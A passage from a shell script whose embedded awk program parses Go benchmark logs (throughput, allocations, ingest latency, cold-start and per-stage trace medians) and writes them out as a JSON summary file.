      if ($i == "records/sec") {
        # Best sample wins across -count repeats (and over any 1x
        # smoke lines, which warmup only ever drags down).
        if (!(name in gen)) gorder[gn++] = name
        if ($(i-1) + 0 > gen[name] + 0) gen[name] = $(i-1)
        if (name == "BenchmarkStudyParallel" && $(i-1) + 0 > rps + 0) rps = $(i-1)
      }
      if ($i == "allocs/op") alloc[name] = $(i-1)
    }
    next
  }
  # Per-scenario generation throughput (sub-benchmarks of
  # BenchmarkScenarioGeneration). Plain overwrite: the dedicated 3x
  # pass appends after any 1x smoke lines, so the steadier sample wins.
  file == 1 && /^BenchmarkScenarioGeneration\// {
    name = $1
    sub(/^BenchmarkScenarioGeneration\//, "", name); sub(/-[0-9]+$/, "", name)
    for (i = 1; i <= NF; i++)
      if ($i == "records/sec") {
        if (!(name in sgen)) sgorder[sgn++] = name
        sgen[name] = $(i-1)
      }
    next
  }
  file == 1 && /^BenchmarkStreamIngestBare/ {
    for (i = 1; i <= NF; i++)
      if ($i == "records/sec" && $(i-1) + 0 > bare + 0) bare = $(i-1)
    next
  }
  # Per-stage medians from the -trace CLI run (trace: stage=... lines).
  file == 1 && /^trace: stage=/ {
    st = ""; med = ""
    for (i = 1; i <= NF; i++) {
      if ($i ~ /^stage=/) st = substr($i, 7)
      if ($i ~ /^median_ms=/) med = substr($i, 11)
    }
    if (st != "" && med != "") {
      if (!(st in stmed)) storder[stn++] = st
      stmed[st] = med
    }
    next
  }
  file == 1 && /^BenchmarkStreamIngestLatency/ {
    for (i = 1; i <= NF; i++) {
      if ($i == "p2-ms") lp2 = $(i-1)
      if ($i == "p8-ms") lp8 = $(i-1)
      if ($i == "p8-over-p2") lratio = $(i-1)
    }
    next
  }
  file == 1 && /^BenchmarkStreamIngest/ {
    for (i = 1; i <= NF; i++) {
      if ($i == "records/sec" && $(i-1) + 0 > ingest + 0) ingest = $(i-1)
      if ($i == "allocs/op") ingalloc = $(i-1)
    }
  }
  file == 1 && /^BenchmarkSweepWarm/ {
    for (i = 1; i <= NF; i++)
      if ($i == "renders/sec") warm = $(i-1)
  }
  file == 1 && /^BenchmarkSweepCold/ {
    for (i = 1; i <= NF; i++)
      if ($i == "renders/sec") cold = $(i-1)
  }
  # Plain overwrite: the dedicated 5x pass appends after any 1x smoke
  # lines, so the steadier sample wins.
  file == 1 && /^BenchmarkColdStartRecovered/ {
    for (i = 1; i <= NF; i++)
      if ($i == "cold-start-ms") csrec = $(i-1)
  }
  file == 1 && /^BenchmarkColdStartRegenerate/ {
    for (i = 1; i <= NF; i++)
      if ($i == "cold-start-ms") csgen = $(i-1)
  }
  file == 1 && /^Benchmark(Table|Figure)/ {
    name = $1; sub(/-[0-9]+$/, "", name)
    for (i = 1; i <= NF; i++)
      if ($i == "ns/op") { ns[name] = $(i-1); order[n++] = name; break }
  }
  file == 2 && /^Benchmark(Table|Figure)/ {
    name = $1; sub(/-[0-9]+$/, "", name)
    for (i = 1; i <= NF; i++)
      if ($i == "ns/op") { sns[name] = $(i-1); sorder[sn++] = name; break }
  }
  END {
    printf "{\n  \"records_per_sec\": %s,\n", (rps == "" ? "null" : rps) > out
    printf "  \"streaming_ingest_records_per_sec\": %s,\n", (ingest == "" ? "null" : ingest) >> out
    printf "  \"streaming_ingest_allocs_per_op\": %s,\n", (ingalloc == "" ? "null" : ingalloc) >> out
    printf "  \"streaming_ingest_bare_records_per_sec\": %s,\n", (bare == "" ? "null" : bare) >> out
    # Instrumented over bare throughput: the price of the observability
    # layer on the ingest path. 1.0 means free; the bar is >= 0.98.
    printf "  \"streaming_ingest_obs_over_bare\": %s,\n", (ingest != "" && bare + 0 > 0 ? sprintf("%.3f", ingest / bare) : "null") >> out
    # Epoch-partitioned generation over batch generation, same varying
    # seeds: the tax the streaming pipeline pays for epoch splitting.
    sg = gen["BenchmarkStreamGeneration"]; bg = gen["BenchmarkStudyGeneration"]
    printf "  \"streaming_over_batch_generation\": %s,\n", (sg != "" && bg + 0 > 0 ? sprintf("%.3f", sg / bg) : "null") >> out
    printf "  \"sweep_renders_per_sec\": %s,\n", (warm == "" ? "null" : warm) >> out
    printf "  \"sweep_cold_renders_per_sec\": %s,\n", (cold == "" ? "null" : cold) >> out
    printf "  \"sweep_warm_over_cold\": %s,\n", (warm != "" && cold + 0 > 0 ? sprintf("%.1f", warm / cold) : "null") >> out
    printf "  \"cold_start_to_first_render_ms\": {\n" >> out
    printf "    \"recovered_from_disk\": %s,\n", (csrec == "" ? "null" : csrec) >> out
    printf "    \"regenerate_from_seed\": %s,\n", (csgen == "" ? "null" : csgen) >> out
    printf "    \"regenerate_over_recovered\": %s\n", (csgen != "" && csrec + 0 > 0 ? sprintf("%.1f", csgen / csrec) : "null") >> out
    printf "  },\n" >> out
    printf "  \"snapshot_latency_flat\": {\n" >> out
    printf "    \"prefix2_ms\": %s,\n", (lp2 == "" ? "null" : lp2) >> out
    printf "    \"prefix8_ms\": %s,\n", (lp8 == "" ? "null" : lp8) >> out
    printf "    \"p8_over_p2\": %s\n", (lratio == "" ? "null" : lratio) >> out
    printf "  },\n" >> out
    printf "  \"ingest_stage_median_ms\": {\n" >> out
    for (i = 0; i < stn; i++)
      printf "    \"%s\": %s%s\n", storder[i], stmed[storder[i]], (i < stn-1 ? "," : "") >> out
    printf "  },\n" >> out
    printf "  \"scenario_generation_records_per_sec\": {\n" >> out
    for (i = 0; i < sgn; i++)
      printf "    \"%s\": %s%s\n", sgorder[i], sgen[sgorder[i]], (i < sgn-1 ? "," : "") >> out
    printf "  },\n" >> out
    printf "  \"generation_records_per_sec\": {\n" >> out
    for (i = 0; i < gn; i++)
      printf "    \"%s\": %s%s\n", gorder[i], gen[gorder[i]], (i < gn-1 ? "," : "") >> out
    printf "  },\n  \"generation_allocs_per_op\": {\n" >> out
    for (i = 0; i < gn; i++)
      printf "    \"%s\": %s%s\n", gorder[i], (alloc[gorder[i]] == "" ? "null" : alloc[gorder[i]]), (i < gn-1 ? "," : "") >> out
    printf "  },\n  \"table_bench_ns_per_op\": {\n" >> out
    for (i = 0; i < n; i++)
      printf "    \"%s\": %s%s\n", order[i], ns[order[i]], (i < n-1 ? "," : "") >> out
    printf "  },\n  \"steady_state_ns_per_op\": {\n" >> out
    for (i = 0; i < sn; i++)
      printf "    \"%s\": %s%s\n", sorder[i], sns[sorder[i]], (i < sn-1 ? "," : "") >> out
    printf "  }\n}\n" >> out
  }
' "$log" "$steady"
echo "wrote $out"
